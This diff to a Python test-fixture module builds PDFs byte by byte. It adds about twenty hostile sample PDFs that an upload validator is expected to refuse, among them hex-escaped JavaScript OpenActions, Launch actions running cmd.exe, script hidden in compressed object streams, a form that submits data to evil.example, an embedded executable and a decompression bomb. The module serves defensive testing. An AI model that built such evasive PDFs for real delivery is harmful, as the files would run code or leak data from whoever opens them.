@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import random
 import struct
 import warnings
 import zipfile
@@ -93,11 +94,128 @@ def png() -> bytes:
     )
 
 
-PDF = (
-    b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
-    b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
-    b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
-)
+# --- PDF, written byte by byte (offsets and cross-references computed, so pypdf reads them) -----
+def pdf_stream(data: bytes, entries: bytes = b"", *, compress: bool = False) -> bytes:
+    """A stream object's body: its dictionary (with the real /Length) and its data."""
+    if compress:
+        data = zlib.compress(data, 1)  # fast, even for the bomb
+        entries += b" /Filter /FlateDecode"
+    return b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(data), entries, data)
+
+
+PAGE_TEXT = b"BT /F1 12 Tf 72 770 Td (Wage IOU, 12000 yuan) Tj ET"
+
+
+def pdf_objects(
+    *, catalog: bytes = b"", page: bytes = b"", extra: dict[int, bytes] | None = None
+) -> dict[int, bytes]:
+    """An ordinary one-page document as numbered objects; ``catalog`` and ``page`` add entries to
+    those dictionaries, ``extra`` adds (or replaces) objects from 6 on."""
+    objects = {
+        1: b"<< /Type /Catalog /Pages 2 0 R" + catalog + b" >>",
+        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
+        b" /Resources << /Font << /F1 5 0 R >> >>" + page + b" >>",
+        4: pdf_stream(PAGE_TEXT),
+        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+    }
+    objects.update(extra or {})
+    return objects
+
+
+def _xref_table(offsets: dict[int, int], size: int) -> bytes:
+    rows = [b"0000000000 65535 f \n"]
+    for number in range(1, size):
+        at = offsets.get(number)
+        rows.append(b"%010d 00000 n \n" % at if at is not None else b"0000000000 65535 f \n")
+    return b"xref\n0 %d\n" % size + b"".join(rows)
+
+
+def _write_objects(out: bytearray, objects: dict[int, bytes]) -> dict[int, int]:
+    offsets = {}
+    for number in sorted(objects):
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
+    return offsets
+
+
+def pdf_file(objects: dict[int, bytes] | None = None, *, version: bytes = b"1.4") -> bytes:
+    """A classic PDF (cross-reference table) of these objects; object 1 is the catalogue."""
+    objects = objects if objects is not None else pdf_objects()
+    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
+    offsets = _write_objects(out, objects)
+    size = max(objects) + 1
+    start = len(out)
+    out += _xref_table(offsets, size)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, start)
+    return bytes(out)
+
+
+def pdf_update(base: bytes, objects: dict[int, bytes]) -> bytes:
+    """``base`` with an incremental update appended: new or replaced objects, a cross-reference
+    section of their own and a trailer pointing back to the previous one (/Prev)."""
+    previous = int(base.rsplit(b"startxref", 1)[1].split()[0])
+    size = int(base.rsplit(b"/Size", 1)[1].split()[0])
+    out = bytearray(base)
+    offsets = _write_objects(out, objects)
+    size = max(size, max(objects) + 1)
+    start = len(out)
+    out += b"xref\n"
+    for number in sorted(offsets):
+        out += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
+    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
+        size,
+        previous,
+        start,
+    )
+    return bytes(out)
+
+
+def pdf_compressed(
+    plain: dict[int, bytes], packed: dict[int, bytes], *, stream_data: bytes | None = None
+) -> bytes:
+    """A PDF 1.5 file: ``packed`` objects inside one compressed object stream (/ObjStm), the rest
+    plain, and a compressed cross-reference stream instead of a table. ``stream_data`` replaces
+    the object stream's content (a decompression bomb)."""
+    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
+    offsets = _write_objects(out, plain)
+    objstm = max([*plain, *packed]) + 1
+    header, body = b"", b""
+    for number in sorted(packed):
+        header += b"%d %d " % (number, len(body))
+        body += packed[number] + b"\n"
+    data = header + body if stream_data is None else stream_data
+    entries = b" /Type /ObjStm /N %d /First %d" % (len(packed), len(header))
+    offsets.update(_write_objects(out, {objstm: pdf_stream(data, entries, compress=True)}))
+    xref = objstm + 1
+    offsets[xref] = len(out)
+    rows = [b"\x00" + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")]
+    order = {number: index for index, number in enumerate(sorted(packed))}
+    for number in range(1, xref + 1):
+        if number in offsets:
+            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
+        elif number in packed:
+            rows.append(b"\x02" + objstm.to_bytes(4, "big") + order[number].to_bytes(2, "big"))
+        else:
+            rows.append(b"\x00" + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big"))
+    entries = b" /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % (xref + 1)
+    out += b"%d 0 obj\n%s\nendobj\n" % (xref, pdf_stream(b"".join(rows), entries, compress=True))
+    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref]
+    return bytes(out)
+
+
+def pdf_padded(size: int) -> bytes:
+    """An ordinary PDF of about ``size`` bytes: the page carries an unused image of random-looking
+    bytes (the kind of data a scan holds)."""
+    image = pdf_stream(
+        random.Random(size).randbytes(size),
+        b" /Type /XObject /Subtype /Image /Width 1 /Height %d /BitsPerComponent 8"
+        b" /ColorSpace /DeviceGray" % size,
+    )
+    return pdf_file(pdf_objects(extra={6: image}))
+
+
+PDF = pdf_file()
 JPEG = (
     b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
     + bytes(range(256)) * 4
@@ -197,6 +315,217 @@ def _duplicate_member() -> bytes:
         z.writestr("word/document.xml", DOCUMENT)
         z.writestr("word/document.xml", "<w:document/>")
     return buf.getvalue()
+
+
+JS_ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"
+BOMB_BYTES = 48 * 1024 * 1024  # unpacked size of the bomb's object stream (over the 32 MB cap)
+
+
+def _one_page(**parts) -> bytes:
+    return pdf_file(pdf_objects(**parts))
+
+
+def _packed_javascript(*, referenced: bool) -> bytes:
+    """JavaScript inside a compressed object stream (PDF 1.5), reached from the catalogue's
+    /OpenAction, or lying there with nothing pointing to it."""
+    objects = pdf_objects(catalog=b" /OpenAction 6 0 R" if referenced else b"")
+    plain = {n: objects[n] for n in (1, 4)}
+    packed = {2: objects[2], 3: objects[3], 5: objects[5], 6: JS_ACTION}
+    return pdf_compressed(plain, packed)
+
+
+def _decompression_bomb() -> bytes:
+    """An object stream of a few dozen KB that unpacks to 48 MB."""
+    objects = pdf_objects()
+    data = b"6 0 " + b" " * BOMB_BYTES + b"<< >>"
+    return pdf_compressed({n: objects[n] for n in (1, 2, 3, 4, 5)}, {6: b"<< >>"}, stream_data=data)
+
+
+def _password_protected() -> bytes:
+    import pypdf
+
+    writer = pypdf.PdfWriter(clone_from=io.BytesIO(PDF))
+    writer.encrypt(user_password="1234", owner_password="owner", algorithm="AES-128")
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def hostile_pdfs() -> list[tuple[str, str, bytes, str]]:
+    """PDFs that run script, start programs, carry files or cannot be read (rule R11, issue 12
+    item 15): (label, file name, bytes, refusal code)."""
+    return [
+        (
+            "PDF JavaScript with hex-escaped names",
+            "escaped.pdf",
+            _one_page(catalog=b" /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
+            "active_content",
+        ),
+        (
+            "PDF Launch with a hex-escaped name",
+            "escaped-launch.pdf",
+            _one_page(catalog=b" /OpenAction << /S /L#61unch /F (cmd.exe) >>"),
+            "pdf_action",
+        ),
+        (
+            "PDF JavaScript in a compressed object stream",
+            "objstm.pdf",
+            _packed_javascript(referenced=True),
+            "active_content",
+        ),
+        (
+            "PDF JavaScript in an object stream nothing points to",
+            "orphan.pdf",
+            _packed_javascript(referenced=False),
+            "active_content",
+        ),
+        (
+            "PDF OpenAction JavaScript in a separate object",
+            "open.pdf",
+            _one_page(catalog=b" /OpenAction 6 0 R", extra={6: JS_ACTION}),
+            "active_content",
+        ),
+        (
+            "PDF document-level JavaScript (names tree)",
+            "names.pdf",
+            _one_page(
+                catalog=b" /Names << /JavaScript << /Names [(init) 6 0 R] >> >>",
+                extra={6: JS_ACTION},
+            ),
+            "active_content",
+        ),
+        (
+            "PDF annotation with /AA JavaScript",
+            "annot-aa.pdf",
+            _one_page(
+                page=b" /Annots [6 0 R]",
+                extra={
+                    6: b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /AA << /E 7 0 R >> >>",
+                    7: b"<< /S /JavaScript /JS 8 0 R >>",
+                    8: pdf_stream(b"app.launchURL('http://evil.example/');"),
+                },
+            ),
+            "active_content",
+        ),
+        (
+            "PDF form field with /AA JavaScript",
+            "field-aa.pdf",
+            _one_page(
+                catalog=b" /AcroForm << /Fields [6 0 R] >>",
+                page=b" /Annots [6 0 R]",
+                extra={
+                    6: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [0 0 100 20]"
+                    b" /P 3 0 R /AA << /K << /S /JavaScript /JS (event.value=1) >> >> >>"
+                },
+            ),
+            "active_content",
+        ),
+        (
+            "PDF page /AA launching a program",
+            "page-aa.pdf",
+            _one_page(page=b" /AA << /O << /S /Launch /Win << /F (cmd.exe) >> >> >>"),
+            "pdf_action",
+        ),
+        (
+            "PDF embedded file",
+            "embedded.pdf",
+            _one_page(
+                catalog=b" /Names << /EmbeddedFiles << /Names [(invoice.exe) 6 0 R] >> >>",
+                extra={
+                    6: b"<< /Type /Filespec /F (invoice.exe) /EF << /F 7 0 R >> >>",
+                    7: pdf_stream(b"MZ\x90\x00", b" /Type /EmbeddedFile"),
+                },
+            ),
+            "embedded_file",
+        ),
+        (
+            "PDF file attachment annotation",
+            "attach.pdf",
+            _one_page(
+                page=b" /Annots [6 0 R]",
+                extra={
+                    6: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20]"
+                    b" /FS << /Type /Filespec /F (a.exe) >> >>"
+                },
+            ),
+            "embedded_file",
+        ),
+        (
+            "PDF XFA form",
+            "xfa.pdf",
+            _one_page(
+                catalog=b" /AcroForm << /Fields [] /XFA 6 0 R >>",
+                extra={6: pdf_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")},
+            ),
+            "active_content",
+        ),
+        (
+            "PDF form that submits data",
+            "submit.pdf",
+            _one_page(
+                page=b" /Annots [6 0 R]",
+                extra={
+                    6: b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /SubmitForm"
+                    b" /F << /FS /URL /F (http://evil.example/collect) >> >> >>"
+                },
+            ),
+            "pdf_action",
+        ),
+        (
+            "PDF that imports form data",
+            "import.pdf",
+            _one_page(catalog=b" /OpenAction << /S /ImportData /F (data.fdf) >>"),
+            "pdf_action",
+        ),
+        (
+            "PDF go-to-embedded action",
+            "gotoe.pdf",
+            _one_page(catalog=b" /OpenAction << /S /GoToE /T << /R /C /N (x) >> >>"),
+            "embedded_file",
+        ),
+        (
+            "PDF rich media (Flash) annotation",
+            "flash.pdf",
+            _one_page(
+                page=b" /Annots [6 0 R]",
+                extra={6: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>"},
+            ),
+            "active_content",
+        ),
+        (
+            "PDF link to a javascript: URI",
+            "uri.pdf",
+            _one_page(
+                page=b" /Annots [6 0 R]",
+                extra={
+                    6: b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100]"
+                    b" /A << /S /URI /URI (  JavaScript:alert(1)) >> >>"
+                },
+            ),
+            "active_content",
+        ),
+        (
+            "PDF JavaScript added by an incremental update",
+            "update.pdf",
+            pdf_update(
+                PDF,
+                {
+                    1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
+                    6: b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",
+                },
+            ),
+            "active_content",
+        ),
+        (
+            "PDF that is broken",
+            "broken.pdf",
+            b"%PDF-1.7\n" + b"1 0 obj << /Type" * 50,
+            "unreadable",
+        ),
+        ("PDF cut short", "cut.pdf", PDF[: len(PDF) // 2], "unreadable"),
+        ("PDF locked with a password", "locked.pdf", _password_protected(), "unreadable"),
+        ("PDF decompression bomb", "bomb.pdf", _decompression_bomb(), "too_complex"),
+    ]
 
 
 # (label, file name, bytes, expected refusal code) — rule R11: at least 30 hostile files
@@ -341,7 +670,7 @@ HOSTILE = [
         "PDF that launches a program",
         "launch.pdf",
         PDF.replace(b"/Type /Catalog", b"/OpenAction << /S /Launch /F (calc.exe) >>"),
-        "active_content",
+        "pdf_action",
     ),
     (
         "JPEG polyglot with HTML",
@@ -367,6 +696,7 @@ HOSTILE = [
     ("UTF-16 text", "note.txt", "工资 wages".encode("utf-16"), "encoding"),
     ("QuickTime movie", "clip.mp4", b"\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00qt  ", "type"),
     ("RAR archive", "a.docx", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 50, "type"),
+    *hostile_pdfs(),
 ]
 
 
